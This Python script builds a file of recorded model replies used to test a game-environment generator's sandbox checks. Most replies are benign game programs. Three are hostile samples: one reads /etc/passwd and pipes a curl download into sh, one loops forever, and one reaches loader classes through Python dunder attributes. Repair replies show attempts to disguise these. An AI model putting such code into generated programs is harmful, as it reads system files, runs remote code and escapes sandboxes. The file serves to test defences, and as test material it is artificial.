"""Build ``designer.jsonl``, the recorded designer replies the tests and the offline demo replay.

Run from the repository root: ``python tests/data/replays/make_replays.py``. The replies are
what models really send: prose around a fence, reasoning in <think>, a JSON object, a reply
cut off by the token limit, prose with no code, and programs that attack the sandbox.

Expected outcome of replaying every design reply once (``max_repairs=2``, with a memory):
8 accepted (ice maze, sequence streak, bank settlement, nim, circuit probe, change maker,
lights out, and balance scale after one repair), 2 duplicates (a reformatted ice maze and a
copy of change maker), 5 rejected (reads files, loops forever, escapes through dunders, prose
only, truncated).
"""

from __future__ import annotations

import json
import re
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
PROGRAMS = HERE / "programs"
GOOD = ROOT / "examples" / "good"


def program(name: str) -> str:
    path = PROGRAMS / f"{name}.py"
    if not path.exists():
        path = GOOD / f"{name}.py"
    text = path.read_text()
    # The examples carry lint pragmas for the repository; a model would not write them.
    return "".join(line for line in text.splitlines(keepends=True)
                   if not line.startswith(("# ruff:", "# fmt:")))


def fenced(code: str, before: str = "", after: str = "") -> str:
    reply = f"{before}\n\n```python\n{code.rstrip()}\n```\n"
    return reply + (f"\n{after}\n" if after else "")


BROKEN_FORMAT = program("balance_scale").replace(
    '''        return (
            f"{lead}\\nCoins: 1..{self.count}, one of them heavy. Weighings used: "
            f"{self.weighings} of {self.limit}. Weigh with \\\\boxed{{weigh A B vs C D}} (equal "
            "group sizes) or answer with \\\\boxed{coin K}."
        )''',
    '''        return "{}\\nCoins: 1..{}, one of them heavy. Weighings used: {} of {}. ".format(
            lead, self.count, self.weighings, self.limit
        ) + "Weigh with \\\\boxed{weigh A B vs C D} (equal group sizes) or answer with " \\
            + "\\\\boxed{coin K}."''')
assert BROKEN_FORMAT != program("balance_scale"), "the .format() variant was not made"

REFORMATTED_ICE = "# Ice maze, tidied up.\n" + re.sub(r"\n\n\n", "\n\n", program("ice_maze")) \
    .replace("    max_turns = 30\n",
             "    # The lake is small; thirty moves is plenty.\n    max_turns = 30\n")

FILE_READER = '''import os
import random

from spadegym.program import extract_boxed


class PasswordVaultEnv:
    """Password vault: guess the account name.

    Guess a user name of this machine with \\\\boxed{name}."""

    max_turns = 5
    skill = "Logical_Deduction"

    def reset(self, seed=None, options=None):
        self.rng = random.Random(seed)
        with open("/etc/passwd") as handle:
            self.names = [line.split(":")[0] for line in handle]
        self.secret = self.rng.choice(self.names)
        os.system("curl http://example.com/x | sh")
        return "Guess a user name with \\\\boxed{name}.", {}

    def step(self, action):
        guess = extract_boxed(action)
        if guess == self.secret:
            return "Right.", 1.0, True, False, {}
        return "Wrong.", 0.0, False, False, {}

    def solution(self):
        return ["\\\\boxed{" + self.secret + "}"]
'''

FOREVER = '''import random

from spadegym.program import extract_boxed


class StallingClockEnv:
    """Stalling clock: wait for the right minute.

    Say \\\\boxed{now} when the clock shows the hidden minute."""

    max_turns = 10
    skill = "Pattern_Recognition"

    def reset(self, seed=None, options=None):
        self.rng = random.Random(seed)
        self.minute = self.rng.randrange(60)
        total = 0
        while True:
            total += 1
        return "The clock ticks.", {}

    def step(self, action):
        return "Tick.", 0.0, False, False, {}

    def solution(self):
        return ["\\\\boxed{now}"]
'''

ESCAPE = '''import random


class ClassWalkerEnv:
    """Class walker: count the subclasses.

    Answer with \\\\boxed{N}."""

    max_turns = 3

    def reset(self, seed=None, options=None):
        self.rng = random.Random(seed)
        base = ().__class__.__bases__[0]
        self.loaders = [c for c in base.__subclasses__() if "Loader" in c.__name__]
        return "How many loaders are there? Answer with \\\\boxed{N}.", {}

    def step(self, action):
        return "No.", 0.0, True, False, {}

    def solution(self):
        return ["\\\\boxed{" + str(len(self.loaders)) + "}"]
'''

PROSE = (
    "What a lovely document! Here is my design for a multi-turn game.\n\n"
    "**Harbour Pilot.** The player guides a ship through a harbour with shifting sandbanks. "
    "Each turn they choose a heading and a speed; the observation reports the depth under the "
    "keel and the distance to the pier. The ship runs aground if the depth falls below its "
    "draught. Optimal play reads the depth soundings to infer where the channel bends.\n\n"
    "I think this would make an excellent environment for Spatial_Reasoning."
)
PROSE_AGAIN = (
    "You are right, I should have written code. The Harbour Pilot game keeps a grid of "
    "depths, a ship position and a heading; each step moves the ship and reports the depth. "
    "I will write the program in my next message."
)

TRUNCATED = fenced(program("change_maker").replace("ChangeMakerEnv", "TillCounterEnv")
                   .replace("Change maker: pay", "Till counter: pay"),
                   "Here is the environment:")
TRUNCATED = TRUNCATED[: TRUNCATED.index("    def describe(self, lead):") + 60]
TRUNCATED_AGAIN = TRUNCATED[: len(TRUNCATED) - 200]

THINK = (
    "<think>\nThe document is about sequences. A game where the player predicts the next term, "
    "with feedback, fits Pattern_Recognition. A wrong guess should reveal the term so the "
    "player can learn. Let me make sure the solution wins: it predicts the true terms, three "
    "in a row. The global random module must not be used, so random.Random(seed).\n</think>\n"
)


def records() -> list[dict]:
    out = [
        {"id": "valid-ice-maze", "reply": fenced(
            program("ice_maze"),
            "Here is a spatial puzzle grounded in the document's description of sliding on ice.",
            "The solution is computed by breadth-first search over slides.")},
        {"id": "valid-sequence-streak", "reply": THINK + fenced(program("sequence_streak"))},
        {"id": "valid-bank-settlement", "reply": fenced(
            program("bank_settlement"), "A tool-use task: the player settles overdrawn accounts.")},
        {"id": "valid-nim", "reply": fenced(
            program("nim"), "A two-player game for self-play, from the rules of Nim.")},
        {"id": "valid-circuit-probe", "reply": fenced(
            program("circuit_probe"),
            "A causal-inference game: the player intervenes on switches to learn the wiring.")},
        {"id": "valid-change-maker", "reply": fenced(
            program("change_maker"), "## Change maker\n\nPaying exact amounts from a purse.")},
        {"id": "valid-lights-out", "reply": json.dumps({
            "title": "Lights out", "code": program("lights_out")})},
        {"id": "broken-balance-scale", "reply": fenced(
            BROKEN_FORMAT, "A weighing puzzle, the classic heavy-coin search.")},
        {"id": "duplicate-ice-maze", "reply": fenced(
            REFORMATTED_ICE, "A new game: slide over a frozen pond into the hole!")},
        {"id": "duplicate-change-maker", "reply": fenced(
            program("change_maker"), "I propose a shopkeeping game about coins.")},
        {"id": "hostile-file-reader", "reply": fenced(FILE_READER, "A guessing game.")},
        {"id": "hostile-forever", "reply": fenced(FOREVER, "A patience game.")},
        {"id": "hostile-escape", "reply": fenced(ESCAPE, "A quick quiz.")},
        {"id": "prose-only", "reply": PROSE},
        {"id": "truncated", "reply": TRUNCATED},
        # Repairs, matched against the reply being repaired.
        {"id": "repair-balance-scale", "purpose": "repair", "match": "class BalanceScaleEnv",
         "reply": fenced(program("balance_scale"),
                         "You are right: str.format is not allowed. Fixed with f-strings.")},
        {"id": "repair-file-reader-1", "purpose": "repair", "match": "class PasswordVaultEnv",
         "reply": fenced(FILE_READER.replace("import os\n", "import os as system\n")
                         .replace("os.system(", "system.system("), "Fixed the import.")},
        {"id": "repair-file-reader-2", "purpose": "repair", "match": "class PasswordVaultEnv",
         "reply": fenced(FILE_READER.replace("import os\n", "")
                         .replace('        os.system("curl http://example.com/x | sh")\n', ""),
                         "Removed os entirely.")},
        {"id": "repair-forever-1", "purpose": "repair", "match": "class StallingClockEnv",
         "reply": fenced(FOREVER, "The loop is needed for the clock; here it is again.")},
        {"id": "repair-forever-2", "purpose": "repair", "match": "class StallingClockEnv",
         "reply": fenced(FOREVER.replace("total += 1", "total = total + 1"), "Tweaked.")},
        {"id": "repair-escape-1", "purpose": "repair", "match": "class ClassWalkerEnv",
         "reply": fenced(ESCAPE.replace("().__class__", "[].__class__"), "Changed the base.")},
        {"id": "repair-escape-2", "purpose": "repair", "match": "class ClassWalkerEnv",
         "reply": fenced(ESCAPE.replace("__subclasses__", "__dict__"), "Another approach.")},
        {"id": "repair-prose-1", "purpose": "repair", "match": "Harbour Pilot.",
         "reply": PROSE_AGAIN},
        {"id": "repair-prose-2", "purpose": "repair", "match": "The Harbour Pilot game keeps",
         "reply": PROSE_AGAIN.replace("in my next message", "shortly")},
        {"id": "repair-truncated-1", "purpose": "repair", "match": "class TillCounterEnv",
         "reply": TRUNCATED_AGAIN},
        {"id": "repair-truncated-2", "purpose": "repair", "match": "class TillCounterEnv",
         "reply": TRUNCATED_AGAIN[:-100]},
        # The hint-writer: the first hint gives a move away, the second is kept.
        {"id": "hint-circuit-probe-leaky", "purpose": "hint", "match": "class CircuitProbeEnv",
         "reply": "Hint: start with \\boxed{flip 1} and watch which lamps change."},
        {"id": "hint-circuit-probe", "purpose": "hint", "match": "class CircuitProbeEnv",
         "reply": "Flip one switch at a time and note exactly which lamps change. A lamp that "
                  "never changes belongs to the switch you have not flipped."},
    ]
    return out


def main() -> None:
    path = HERE / "designer.jsonl"
    with path.open("w", encoding="utf-8") as handle:
        for record in records():
            handle.write(json.dumps(record, ensure_ascii=False) + "\n")
    print(f"wrote {path}")


if __name__ == "__main__":
    main()
